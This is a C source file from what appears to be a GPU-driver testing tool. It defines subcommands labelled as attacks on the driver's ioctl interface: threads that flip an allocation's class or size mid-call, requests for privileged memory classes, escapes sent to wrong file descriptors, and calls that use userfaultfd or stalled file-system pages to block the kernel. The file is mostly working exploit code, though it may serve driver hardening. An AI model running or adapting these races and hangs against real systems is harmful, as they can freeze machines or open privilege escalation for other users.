/* Messages that change while they are looked at, classes that aren't for everyone, and files that aren't the GPU's. */
#include "rawgpu.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <time.h>

/* What the other thread writes to, in turn one and the other, until told to stop. */
struct flipped {
    _Atomic uint32_t *class;
    _Atomic uint64_t *size;
    uint64_t one, other;
    _Atomic bool stop;
};

static void *flip(void *argument)
{
    struct flipped *flipped = argument;
    while (!flipped->stop) {
        if (flipped->class) {
            *flipped->class = (uint32_t)flipped->one;
            *flipped->class = (uint32_t)flipped->other;
        } else {
            *flipped->size = flipped->one;
            *flipped->size = flipped->other;
        }
    }
    return NULL;
}

static double now(void)
{
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

/* Makes the call again and again for so long while the other thread flips; keeps all that it gets. */
static void race(struct flipped *flipped, double seconds, struct rm_alloc *message, const struct gpu *gpu)
{
    uint64_t granted = 0, denied = 0;
    struct result last = {0};
    pthread_t thread;
    if (pthread_create(&thread, NULL, flip, flipped) != 0)
        die("a thread");
    for (double end = now() + seconds; now() < end;) {
        message->handle = 0;
        struct result result = call(gpu->fd, ESC_ALLOC, message, sizeof *message, &message->status);
        if (refused(result)) {
            denied++;
            last = result;
        } else {
            granted++;
        }
    }
    flipped->stop = true;
    pthread_join(thread, NULL);
    printf("%llu granted, %llu refused, last ", (unsigned long long)granted, (unsigned long long)denied);
    print_result(last);
}

static void swapclass(char **arguments)
{
    struct gpu gpu = open_gpu();
    struct rm_memory_params params = {.owner = OWNER, .size = number(arguments[1]) * MIB};
    struct rm_alloc message = alloc_message(&gpu, CLASS_MEMORY_SYSTEM, &params, sizeof params);
    struct flipped flipped = {
        .class = (_Atomic uint32_t *)&message.cls, .one = CLASS_MEMORY_SYSTEM, .other = CLASS_MEMORY_LOCAL_USER,
    };
    race(&flipped, (double)number(arguments[0]), &message, &gpu);
}

static void swapsize(char **arguments)
{
    struct gpu gpu = open_gpu();
    struct rm_memory_params params = {.owner = OWNER, .size = GRANULE};
    struct rm_alloc message = alloc_message(&gpu, CLASS_MEMORY_LOCAL_USER, &params, sizeof params);
    struct flipped flipped = {
        .size = (_Atomic uint64_t *)&params.size, .one = GRANULE, .other = number(arguments[1]) * MIB,
    };
    race(&flipped, (double)number(arguments[0]), &message, &gpu);
}

static struct result physical(const struct gpu *gpu, uint64_t *size, uint32_t *handle)
{
    struct rm_memory_params params = {.owner = OWNER, .size = *size};
    struct result result = alloc_class(gpu, CLASS_MEMORY_LOCAL_PHYSICAL, &params, sizeof params, handle);
    *size = params.size;
    return result;
}

static void privileged(char **arguments)
{
    struct gpu gpu = open_gpu();
    fill(&gpu, physical, number(arguments[0]) * MIB);
}

/* NV_OS_DESC_MEMORY_ALLOCATION_PARAMS: type, flags, attr, attr2, the address, the last byte: pages of this program. */
static void osdesc(char **arguments)
{
    struct gpu gpu = open_gpu();
    uint64_t size = number(arguments[0]) * MIB;
    struct {
        uint32_t type, flags, attributes, attributes2;
        uint64_t descriptor, limit;
        uint32_t descriptor_type, tag;
        uint8_t after[128];
    } params = {.descriptor = (uintptr_t)malloc(size), .limit = size - 1};
    uint32_t handle;
    print_result(alloc_class(&gpu, CLASS_OS_DESCRIPTOR, &params, sizeof params, &handle));
}

/* Every request that is looked at, on one file: the errno of each, 0 where it is taken. */
static void print_errors(const char *name, int fd)
{
    static const struct {
        unsigned escape;
        size_t size;
    } requests[] = {
        {ESC_ALLOC, sizeof(struct rm_alloc)},
        {ESC_ALLOC, sizeof(struct rm_alloc_old)},
        {ESC_FREE, sizeof(struct rm_free)},
        {ESC_VID_HEAP_CONTROL, sizeof(struct rm_vid_heap)},
        {ESC_ALLOC_MEMORY, sizeof(struct rm_alloc_memory)},
        {ESC_DUP_OBJECT, sizeof(struct rm_dup)},
        {ESC_XFER_CMD, sizeof(struct rm_xfer)},
    };
    printf("%s", name);
    for (size_t i = 0; i < sizeof requests / sizeof *requests; i++) {
        uint64_t message[32] = {0};
        int answer = ioctl(fd, request(requests[i].escape, requests[i].size), message);
        printf(" %d", answer < 0 ? errno : 0);
    }
}

static void wrongfd(char **arguments)
{
    (void)arguments;
    int ends[2], null = open("/dev/null", O_RDWR | O_CLOEXEC), connection = socket(AF_UNIX, SOCK_STREAM, 0);
    if (null < 0 || connection < 0 || pipe(ends) < 0)
        die("files");
    print_errors("null", null);
    print_errors(", pipe", ends[0]);
    print_errors(", socket", connection);
    print_errors(", closed", -1);
    printf("\n");
    fflush(stdout);
}

/* ---- messages that nobody can read -------------------------------------------------------------------------- */

/* One call with a message that lies at PAGE. */
static void ask_from(const struct gpu *gpu, void *page)
{
    (void)ioctl(gpu->fd, request(ESC_ALLOC, sizeof(struct rm_alloc)), page);
    printf("answered\n");
}

/* A page that is never filled: userfaultfd(2), for faults of the kernel's too, or as all may have it, for those of user
 * mode only. Held by this process, or by one more: a child that asks the driver for nothing. */
static void blockpage(char **arguments)
{
    struct gpu gpu = open_gpu();
    size_t size = (size_t)sysconf(_SC_PAGESIZE);
    void *page = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    struct uffdio_api api = {.api = UFFD_API};
    struct uffdio_register all = {.range = {(uintptr_t)page, size}, .mode = UFFDIO_REGISTER_MODE_MISSING};
    int handler = (int)syscall(SYS_userfaultfd, strcmp(arguments[0], "user") == 0 ? UFFD_USER_MODE_ONLY : 0);
    if (handler < 0 || ioctl(handler, UFFDIO_API, &api) < 0 || ioctl(handler, UFFDIO_REGISTER, &all) < 0)
        die("userfaultfd");
    if (strcmp(arguments[0], "shared") == 0 && fork() == 0) {
        for (int fd = 0; fd < 64; fd++)
            if (fd != handler)
                close(fd);
        sleep(20); /* longer than the agent waits, and it is nobody's to end */
        exit(0);
    }
    ask_from(&gpu, page);
}

/* A page of a file whose file system doesn't answer. */
static void blockfile(char **arguments)
{
    struct gpu gpu = open_gpu();
    int file = open(arguments[0], O_RDONLY | O_CLOEXEC);
    void *page = mmap(NULL, (size_t)sysconf(_SC_PAGESIZE), PROT_READ | PROT_WRITE, MAP_PRIVATE, file, 0);
    if (page == MAP_FAILED)
        die("a file's page");
    close(file); /* now, or it would wait for that file system at its end */
    ask_from(&gpu, page);
}

/* An exec that closes a file of such a file system on its way, and isn't done until that has answered. */
static void blockexec(char **arguments)
{
    struct gpu gpu = open_gpu();
    int file = open(arguments[0], O_RDONLY | O_CLOEXEC);
    uint64_t size = 2 * MIB;
    uint32_t handle;
    if (file < 0 || refused(alloc_memory(&gpu, &size, &handle)))
        die("a file and memory");
    printf("ready\n");
    fflush(stdout);
    wait_for_input();
    execl("/proc/self/exe", "rawgpu", "idle", NULL);
    die("exec");
}

const struct subcommand attack_commands[] = {
    {"swapclass", "SECONDS MIB", 2, swapclass},
    {"swapsize", "SECONDS MIB", 2, swapsize},
    {"privileged", "MIB", 1, privileged},
    {"osdesc", "MIB", 1, osdesc},
    {"wrongfd", "", 0, wrongfd},
    {"blockpage", "user|own|shared", 1, blockpage},
    {"blockfile", "PATH", 1, blockfile},
    {"blockexec", "PATH", 1, blockexec},
    {0},
};
